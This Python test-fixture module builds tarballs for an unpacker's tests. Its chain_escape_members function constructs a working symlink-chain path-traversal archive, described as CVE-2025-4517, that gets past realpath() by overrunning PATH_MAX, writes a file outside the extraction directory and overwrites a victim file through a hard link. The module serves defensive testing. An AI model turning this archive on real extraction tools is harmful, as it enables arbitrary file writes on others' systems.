"""Hand-made environment tarballs for the unpacker's tests (tests/unit/envs, tests/execenv): ordinary and hostile."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path
from typing import Any

Member = tuple[str, dict[str, Any]]


def add(tar: tarfile.TarFile, name: str, data: bytes = b"", mode: int = 0o644, **kw: Any) -> None:
    info = tarfile.TarInfo(name)
    for key, value in kw.items():
        setattr(info, key, value)
    info.mode = mode
    if info.type in (tarfile.REGTYPE, tarfile.AREGTYPE):
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    else:
        tar.addfile(info)


def write_tar(path: Path, members: list[Member], mode: str = "w:gz") -> Path:
    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT) as tar:
        for name, kw in members:
            add(tar, name, **kw)
    return path


def chain_escape_members(dest: Path, outside: Path, steps: int = 16) -> list[Member]:
    """The symlink chain of CVE-2025-4517. Short links a..p each name a long directory inside the
    previous one, so "a/b/.../p/<254 l>" is short on paper but longer than PATH_MAX on disk; that last
    link points `steps` levels up (back to `dest`). realpath() then gives up half way and judges
    "escape" -> "a/.../p/<l...>/.. x (steps + 1)/<outside>" by its name alone, inside, while the kernel
    follows every link and lands in `outside`. Then a file written through "escape", and a hard link
    through it to outside/victim followed by a file of the same name, which writes into the victim."""
    comp_len = 240  # dest + 16 x 241 stays under PATH_MAX (the dirs can be made), + 255 goes past it
    assert len(str(dest)) + steps * (comp_len + 1) < 4096 - 8 < len(str(dest)) + steps * (comp_len + 1) + 255
    comp = "d" * comp_len
    letters = "abcdefghijklmnopqrstuvwxyz"[:steps]
    members: list[Member] = [("bin/python", {"data": b"", "mode": 0o755})]
    long = ""
    for letter in letters:
        members.append((long + comp, {"type": tarfile.DIRTYPE, "mode": 0o755}))
        members.append((long + letter, {"type": tarfile.SYMTYPE, "linkname": comp}))
        long += comp + "/"
    last = "/".join(letters) + "/" + "l" * 254
    members.append((last, {"type": tarfile.SYMTYPE, "linkname": "/".join([".."] * steps)}))
    members.append(("escape", {"type": tarfile.SYMTYPE,
                               "linkname": last + "/.." * (steps + 1) + "/" + str(outside).lstrip("/")}))
    members.append(("escape/pwned", {"data": b"written outside\n"}))
    members.append(("hl", {"type": tarfile.LNKTYPE, "linkname": "escape/victim"}))
    members.append(("hl", {"data": b"overwritten\n"}))
    return members


def sparse_tarball(tmp: Path, apparent: int) -> Path:
    """A GNU tar with one sparse member of `apparent` bytes (a few KiB on disk and in the archive)."""
    import subprocess

    src = tmp / "sparse-src"
    (src / "bin").mkdir(parents=True)
    (src / "bin" / "python").write_bytes(b"")
    with open(src / "big.bin", "wb") as f:
        f.write(b"x")
        f.truncate(apparent)
    out = tmp / "sparse.tar.gz"
    subprocess.run(["tar", "--sparse", "-czf", str(out), "-C", str(src), "."], check=True)
    return out


def tree(root: Path) -> dict[str, Any]:
    """What a tree holds: per relative path its type, mode, content / link target and a file's mtime."""
    out: dict[str, Any] = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(dirpath) / name
            st = p.lstat()
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = ("dir", oct(st.st_mode & 0o7777))
            else:
                out[rel] = ("file", oct(st.st_mode & 0o7777), p.read_bytes(), int(st.st_mtime), st.st_nlink)
    return out
